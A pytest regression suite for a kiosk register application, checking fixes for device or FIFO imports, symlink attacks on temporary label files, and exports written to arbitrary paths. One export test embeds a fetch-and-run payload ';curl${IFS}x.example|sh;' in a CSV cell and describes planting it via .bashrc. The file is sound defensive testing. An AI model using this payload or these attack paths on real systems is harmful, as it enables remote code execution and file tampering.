"""Round 9 of the red team on the record: files the office hands the kiosk, the console in a
browser, e-mail, exports.

Each test here failed on the code before its fix (see the commit that added it).
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest

from tests.reliability.helpers import HAZARDS, plant_hazard, run_capped

# --- an import or a policy file that is a device, a pipe or huge ---------------------------------

_COMMANDS = {
    "staff import": ["staff", "import"],
    "devices import": ["devices", "import"],
    "calendar import": ["calendar", "import"],
    "policy publish": ["policy", "publish", "--title", "AUP", "--version", "2"],
    "secret import": ["secret", "import"],
}


# Every command with a FIFO (each reads its file its own way), and the other two hazards with
# one command: a process each, not fifteen.
_CASES = [(command, "fifo") for command in _COMMANDS] + [
    ("staff import", "/dev/zero"),
    ("staff import", "large"),
    ("policy publish", "/dev/zero"),
]


@pytest.mark.parametrize(("command", "what"), _CASES)
def test_an_import_file_that_is_a_device_or_a_pipe_is_refused_in_a_sentence(
    tmp_path: Path, command: str, what: str
) -> None:
    """`kiosk staff import /dev/zero` (and devices, calendar, `policy publish`, `secret
    import`) read the whole file: a device grew until memory ran out ("something unexpected
    went wrong (MemoryError)"), a FIFO waited for ever, a file of gigabytes was read whole
    before a line was looked at. A file given to the kiosk is read only when it is a regular
    file of at most 5 MiB; otherwise it is refused in a sentence and nothing is recorded."""
    name = "staff.csv" if command != "calendar import" else "calendar.csv"
    source = tmp_path / name
    plant_hazard(source, what, b"code,name\n" + b"ZZ,Someone\n" * (5 * 2**20 // 11 + 1))
    url = f"sqlite:///{tmp_path / 'kiosk.sqlite3'}"
    env = dict(
        os.environ,
        KIOSK_DATABASE_URL=url,
        KIOSK_DATA_DIR=str(tmp_path / "data"),
        KIOSK_CONFIG=str(tmp_path / "config.toml"),
    )
    done = run_capped(
        [sys.executable, "-m", "kiosk", *_COMMANDS[command], str(source)], env, f"kiosk {command}"
    )

    assert done.returncode == 1, done.stderr
    assert "something unexpected" not in done.stderr and "Traceback" not in done.stderr
    why = "it is larger than 5,242,880 bytes" if what == "large" else "it is not a regular file"
    assert f"kiosk: {source} cannot be read ({why}" in done.stderr, done.stderr


@pytest.mark.parametrize("what", HAZARDS)
def test_a_console_import_file_that_is_a_device_or_a_pipe_is_refused(
    tmp_path: Path, what: str
) -> None:
    """The console's People import and Policies publish read the named file after checking
    its size with stat(): /dev/zero says 0 bytes and was read until memory ran out; a FIFO
    hung the console's worker for ever. Now refused in a sentence, as on the command line."""
    source = tmp_path / "staff.csv"
    plant_hazard(source, what, b"x" * (5 * 2**20 + 1))
    script = (
        "import sys\n"
        "from kiosk.domain.errors import InvalidInput\n"
        "from kiosk.ui.admin.files import CSV_FILES, read_bytes\n"
        "try:\n"
        "    read_bytes(sys.argv[1], CSV_FILES)\n"
        "except InvalidInput as exc:\n"
        "    print(exc.message)\n"
    )
    done = run_capped(
        [sys.executable, "-c", script, str(source)], dict(os.environ), "the console's import"
    )

    assert done.returncode == 0, done.stderr
    if what == "/dev/zero":  # the link is followed: its target's name is no CSV's
        assert "zero is not a CSV file" in done.stdout, done.stdout
        return
    why = "it is larger than 5,242,880 bytes" if what == "large" else "it is not a regular file"
    assert f"{source.resolve()} cannot be read ({why}" in done.stdout, done.stdout


# --- label sheets: a temporary file at a name anyone can guess -----------------------------------


@pytest.mark.parametrize("suffix", [".pdf", ".png", ".svg"])
def test_a_label_sheet_is_never_written_through_a_planted_symlink(
    tmp_path: Path, suffix: str
) -> None:
    """`kiosk labels --out /tmp/badges.pdf` (and the console's "Labels to a file") wrote the
    sheet first to ``.badges.pdf.<pid>.tmp`` beside it, opened by name: in a folder others
    may write (/tmp, a shared drive), a symlink planted there for the likely process ids sent
    the PDF into whatever it pointed at, truncating a file of the kiosk's user (the register,
    the school key). And a sheet of staff badges (every staff code, the admin's included)
    was left readable by every account on the machine. The temporary file is now made anew
    (O_EXCL, mode 0600) and the sheet is 0600."""
    from kiosk.services import labels

    victim = tmp_path / "school.key"
    victim.write_text("the school key\n")
    shared = tmp_path / "shared"
    shared.mkdir()
    out = shared / f"badges{suffix}"
    (shared / f".{out.name}.{os.getpid()}.tmp").symlink_to(victim)
    sheet = [labels.Label(code="ASMITH", payload="SRK1:S:ASMITH", title="Alice Smith")]

    (written,) = labels.write_sheet(sheet, out)

    assert victim.read_text() == "the school key\n"
    assert written == out and out.is_file() and not out.is_symlink()
    assert out.stat().st_mode & 0o077 == 0, oct(out.stat().st_mode)
    leftovers = [p.name for p in shared.iterdir() if p.name.endswith(".tmp") and not p.is_symlink()]
    assert leftovers == []


# --- the console's exports: a file of any name on the server --------------------------------------


@pytest.mark.parametrize("name", [".bashrc", "kiosk.sqlite3", "school.key", "config.toml"])
def test_a_console_export_writes_only_a_csv_file(tmp_path: Path, name: str) -> None:
    """The console's Export (and the phones list's) wrote its CSV to any path typed in "Save
    as", and "Replace it" renamed it over any file the server's user may write. In the
    browser (`kiosk admin --serve`) an admin, who has no shell on the server, could replace
    the kiosk user's ``.bashrc`` with a register whose cell (a reason typed at the kiosk:
    ``;curl${IFS}x.example|sh;``) is a command the next login runs, or the register's own
    SQLite file (the kiosks then go on confirming events into the file just unlinked), or the
    school key. An export is now only ever a ``.csv`` file; anything else is refused in a
    sentence and left as it was."""
    from kiosk.domain.errors import InvalidInput
    from kiosk.ui.admin.files import write_text_file

    target = tmp_path / name
    target.write_text("kept\n")
    with pytest.raises(InvalidInput, match=r"\.csv"):
        write_text_file(str(target), "id,reason\n1,;curl${IFS}x.example|sh;\n", replace=True)
    assert target.read_text() == "kept\n"
    assert [p.name for p in tmp_path.iterdir()] == [name]

    written = write_text_file(str(tmp_path / "Register.CSV"), "id\n", replace=False)
    assert Path(written).read_bytes() == b"\xef\xbb\xbfid\n"
